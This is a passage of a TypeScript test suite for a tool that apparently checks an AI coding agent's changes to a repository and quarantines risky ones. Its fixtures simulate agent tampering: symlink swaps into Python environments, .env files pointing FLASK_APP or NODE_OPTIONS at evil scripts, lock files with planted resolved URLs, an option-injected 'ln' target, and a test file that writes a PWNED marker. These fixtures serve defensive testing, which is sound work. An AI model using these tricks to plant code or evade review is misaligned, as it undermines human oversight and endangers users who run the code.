  assert.ok(!warnings.some((w) => w.includes('could not finish')), warnings.join('\n'));
  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, '.venv')} (a Python environment`)), warnings.join('\n'));
  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, 'vendor', 'bundle')} (Bundler's vendor/bundle`)), warnings.join('\n'));
  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, '.venv3')} (a Python environment`)), warnings.join('\n'));
  assert.ok(warnings.some((w) => w.startsWith(`the agent left a nested repository at ${join(root, 'evil')}`)), warnings.join('\n'));
  assert.equal(existsSync(join(root, '.venv2', 'bin', 'python')), true, 'the environment only your python wrote byte-code in stays');
});

test("(review, round 28d) an environment's old links, to a file and to a folder in a folder the run could write, re-aimed into a chain of folders whose real path passes PATH_MAX (the kernel still follows the links' short names): the environment goes aside; control: its python runs the agent's code", async () => {
  const root = repo('r28d');
  const cache = join(base, 'r28d-cache');
  const sh = (script: string, cwd = root) => spawnSync('bash', ['-ec', script], { cwd, env, encoding: 'utf8' });
  mkdirSync(join(cache, 'archive', 'HASH', 'greet'), { recursive: true });
  mkdirSync(join(cache, 'pkgs', 'hello'), { recursive: true });
  writeFileSync(join(cache, 'archive', 'HASH', 'greet', '__init__.py'), 'print("greet: genuine")\n');
  writeFileSync(join(cache, 'pkgs', 'hello', '__init__.py'), 'print("hello: genuine")\n');
  const made = sh([
    "printf '.venv/\\n' > .gitignore",
    'python3 -m venv --without-pip .venv',
    'SP=$(echo .venv/lib/python3*/site-packages) && mkdir -p $SP/greet',
    `ln -s '${cache}/archive/HASH/greet/__init__.py' $SP/greet/__init__.py`,
    `ln -s '${cache}/pkgs/hello' $SP/hello`,
  ].join(' && '));
  assert.equal(made.status, 0, made.stderr);
  git(root, 'add', '.gitignore');
  git(root, 'commit', '-qm', 'base');
  const since = await runStarts();
  // The agent's: a chain of folders whose real path is ~4,800 characters, reached by links of short names.
  const planted = sh([
    "L=$(printf 'd%.0s' $(seq 1 200)); P=$(printf \"$L/%.0s\" $(seq 1 12)); P=${P%/}",
    'mkdir -p deep && cd deep && mkdir -p $P && cd $P && mkdir -p $P && (cd $P && mkdir -p greet hello && echo \'print("AGENT-CODE-RAN")\' > greet/__init__.py && echo \'print("AGENT-CODE-RAN")\' > hello/__init__.py) && ln -s $P s2',
    `cd '${cache}/archive' && ln -s ../deep/$P/s2 NEW && rm -rf HASH && mv -T NEW HASH`,
    `cd '${cache}/pkgs' && ln -s ../deep/$P/s2/hello NEWH && rm -rf hello && mv -T NEWH hello`,
  ].join(' && '), cache);
  assert.equal(planted.status, 0, planted.stderr);
  for (const mod of ['greet', 'hello']) assert.match(spawnSync(join(root, '.venv', 'bin', 'python'), ['-c', `import ${mod}`], { cwd: root, encoding: 'utf8' }).stdout, /AGENT-CODE-RAN/, `control: ${mod}`);
  const warnings = checkNestedRepos(root, env, since, { writableOutside: [realpathSync(cache)] });
  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, '.venv')} (a Python environment`)), warnings.join('\n'));
  spawnSync('rm', ['-rf', cache]);
});

test("(review, round 28e) an .env in a subfolder (Flask looks upward for it) and a lock file git does not show (npm install took the agent's resolved URL and ran its postinstall) are named; a lock file git shows is left to git status", async () => {
  const root = repo('r28e');
  writeFileSync(join(root, '.gitignore'), '.env\npackage-lock.json\n');
  mkdirSync(join(root, 'app'));
  mkdirSync(join(root, 'web'));
  writeFileSync(join(root, 'web', 'yarn.lock'), '# yarn lockfile v1\n');
  git(root, 'add', '.gitignore', 'web/yarn.lock');
  git(root, 'commit', '-qm', 'base');
  const since = await runStarts();
  writeFileSync(join(root, 'app', '.env'), 'FLASK_APP=../build/evil.py\n');
  writeFileSync(join(root, 'package-lock.json'), '{"packages":{"node_modules/left-pad":{"resolved":"http://127.0.0.1:9/left-pad-1.3.0.tgz"}}}\n');
  writeFileSync(join(root, 'web', 'yarn.lock'), '# yarn lockfile v1\nleft-pad@^1.3.0:\n  resolved "http://127.0.0.1:9/x.tgz"\n');
  const warnings = checkNestedRepos(root, env, since);
  assert.ok(warnings.includes(`the agent made or changed ${join(root, 'app', '.env')}, which tools load into their environment (Flask's FLASK_APP, docker compose's COMPOSE_FILE, bun, Vite, Next.js, pipenv, direnv's dotenv): review it before you run them there`), warnings.join('\n'));
  assert.ok(warnings.some((w) => w.startsWith(`the agent made or changed ${join(root, 'package-lock.json')}, a lock file git does not show`)), warnings.join('\n'));
  assert.ok(!warnings.some((w) => w.includes('yarn.lock')), warnings.join('\n'));
  assert.equal(existsSync(join(root, 'app', '.env')), true);
});

test("(review, round 28f) every .env.<mode> and PEP 751's pylock.toml are named too, and a flood of .env files names the lock file first, the rest counted", async () => {
  const root = repo('r28f');
  writeFileSync(join(root, '.gitignore'), '.env*\npylock.toml\nfixtures/\n');
  git(root, 'add', '.gitignore');
  git(root, 'commit', '-qm', 'base');
  const since = await runStarts();
  for (let i = 0; i < 30; i++) {
    mkdirSync(join(root, 'fixtures', `a${i}`), { recursive: true });
    writeFileSync(join(root, 'fixtures', `a${i}`, '.env'), 'X=1\n');
  }
  writeFileSync(join(root, '.env.test'), 'NODE_OPTIONS=--require ./build/evil.js\n');
  writeFileSync(join(root, 'pylock.toml'), '[[packages]]\nname = "six"\n');
  const warnings = checkNestedRepos(root, env, since);
  const named = warnings.filter((w) => w.startsWith('the agent made or changed'));
  assert.equal(named.length, 20, warnings.join('\n'));
  assert.ok(named[0]!.startsWith(`the agent made or changed ${join(root, 'pylock.toml')}, a lock file git does not show`), named[0]);
  assert.ok(named[1]!.startsWith(`the agent made or changed ${join(root, '.env.test')}, which tools load`), named[1]);
  assert.ok(warnings.includes('and 12 more environment or lock files the agent made or changed (git status --ignored lists them): review them before you run or install there'), warnings.join('\n'));
});

test("(review, round 28g) an environment moved aside whole keeps what is in it as it was (its bin/pip, its .pth): restored as said, its python runs; one an earlier run kept aside in the way is said", async () => {
  const root = repo('r28g');
  const sh = shIn(root);
  assert.equal(sh("printf '.venv/\\n' > .gitignore && python3 -m venv --without-pip .venv").status, 0);
  git(root, 'add', '.gitignore');
  git(root, 'commit', '-qm', 'base');
  const since = await runStarts();
  assert.equal(sh("printf '#!/bin/sh\\necho pip\\n' > .venv/bin/pip && chmod +x .venv/bin/pip && echo 'import os' > $(echo .venv/lib/python3*/site-packages)/x.pth").status, 0);
  const warnings = checkNestedRepos(root, env, since);
  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, '.venv')} (a Python environment`)), warnings.join('\n'));
  assert.ok(!warnings.some((w) => w.includes('pip.stashbase-quarantine') || w.includes('x.pth')), warnings.join('\n'));
  assert.equal(existsSync(join(root, '.venv.stashbase-quarantine', '.venv', 'bin', 'pip')), true);
  // Restored as the warning says: its python runs.
  assert.equal(spawnSync('mv', [join(root, '.venv.stashbase-quarantine', '.venv'), join(root, '.venv')]).status, 0);
  assert.equal(spawnSync(join(root, '.venv', 'bin', 'python'), ['-c', 'pass']).status, 0);
  // A later run's change, with the earlier one kept aside in the way.
  mkdirSync(join(root, '.venv.stashbase-quarantine', 'old'), { recursive: true });
  const again = await runStarts();
  assert.equal(sh("echo 'import os' > $(echo .venv/lib/python3*/site-packages)/y.pth").status, 0);
  const second = checkNestedRepos(root, env, again);
  // (Round 34) No longer left in place: moved beside it under a numbered name, the earlier one kept as it was.
  assert.ok(second.some((w) => w.startsWith(`the agent changed code in ${join(root, '.venv')} (a Python environment`) && w.includes(`it was moved to ${join(root, '.venv')}-2.stashbase-quarantine/.venv;`)), second.join('\n'));
  assert.deepEqual([existsSync(join(root, '.venv')), existsSync(join(root, '.venv-2.stashbase-quarantine', '.venv', 'bin', 'python')), existsSync(join(root, '.venv.stashbase-quarantine', 'old'))], [false, true, true]);
  // Control: the one rename the check made before, onto the earlier folder, fails and leaves the environment in place.
  mkdirSync(join(root, 'ctl', 'aside', 'old'), { recursive: true });
  mkdirSync(join(root, 'ctl', 'env'));
  assert.throws(() => renameSync(join(root, 'ctl', 'env'), join(root, 'ctl', 'aside')), { code: 'ENOTEMPTY' });
});

test('(review, round 29) the command printed to make a removed link again: `--` before a target spelled as an option (pasted, `ln -s --target-directory=<folder> <link>` planted a link in that folder); unlisted: a target starting with one dash; control: the command as it was printed plants the link elsewhere', async () => {
  const root = repo('rremake');
  const sh = shIn(root);
  assert.equal(sh("printf 'build/\\n' > .gitignore && mkdir -p build").status, 0);
  git(root, 'add', '.gitignore');
  git(root, 'commit', '-qm', 'base');
  const since = await runStarts();
  const elsewhere = join(base, 'rremake-bin');
  mkdirSync(elsewhere);
  assert.equal(sh(`mkdir -p "build/--target-directory=${elsewhere}" build/-s && echo 'process.exit(0)' > build/-s/x.test.js && ln -s -- "--target-directory=${elsewhere}" build/git && ln -s -- -s build/tests`).status, 0);
  const warnings = checkNestedRepos(root, env, since);
  const hint = (link: string) => warnings.find((w) => w.startsWith(`the agent made ${join(root, link)} a link to `))?.replace(/^.* make it again with: /s, '') ?? '';
  assert.equal(hint('build/git'), `ln -s -- --target-directory=${elsewhere} ${join(root, 'build/git')}`, warnings.join('\n'));
  assert.equal(hint('build/tests'), `ln -s -- -s ${join(root, 'build/tests')}`, warnings.join('\n'));
  // The command as printed before (no --), pasted: the link lands in the other folder. With --, where it was.
  const before = hint('build/git').replace('ln -s -- ', 'ln -s ');
  assert.equal(sh(before).status, 0);
  assert.equal(lstatSync(join(elsewhere, 'git')).isSymbolicLink(), true, 'control: planted in the other folder');
  assert.equal(sh(hint('build/git')).status, 0);
  assert.equal(readlinkSync(join(root, 'build/git')), `--target-directory=${elsewhere}`);
});

test("(review, round 34) a folder of installed code moved aside keeps its own name inside the quarantine folder, which test runners pass by: the agent's tests in it are not run by node --test or pytest; control: renamed whole (as before), node --test runs them", async () => {
  const root = repo('r34tests');
  const marker = join(root, '..', 'PWNED-r34tests');
  const sh = shIn(root);
  assert.equal(sh("printf 'node_modules/\\n' > .gitignore && mkdir -p node_modules/lodash && echo '{}' > node_modules/lodash/package.json").status, 0);
  git(root, 'add', '.gitignore');
  git(root, 'commit', '-qm', 'base');
  const since = await runStarts();
  assert.equal(sh(`echo "require('fs').writeFileSync('${marker}', 'js')" > node_modules/lodash/lodash.test.js && printf 'open("${marker}-py", "w")\\ndef test_x(): pass\\n' > node_modules/lodash/test_lodash.py`).status, 0);
  const warnings = checkNestedRepos(root, env, since);
  assert.ok(warnings.some((w) => w.includes(`it was moved to ${join(root, 'node_modules.stashbase-quarantine', 'node_modules')};`)), warnings.join('\n'));
  assert.equal(existsSync(join(root, 'node_modules.stashbase-quarantine', 'node_modules', 'lodash', 'lodash.test.js')), true);
  spawnSync(process.execPath, ['--test'], { cwd: root, env });
  spawnSync('python3', ['-m', 'pytest', '-q', '-p', 'no:cacheprovider'], { cwd: root, env });
  assert.deepEqual([existsSync(marker), existsSync(`${marker}-py`)], [false, false]);
  // Control: the folder renamed whole, node --test collects the agent's test there.
  spawnSync('mv', [join(root, 'node_modules.stashbase-quarantine', 'node_modules'), join(root, 'nm.stashbase-quarantine')]);
  spawnSync(process.execPath, ['--test'], { cwd: root, env });
  assert.equal(existsSync(marker), true);
});
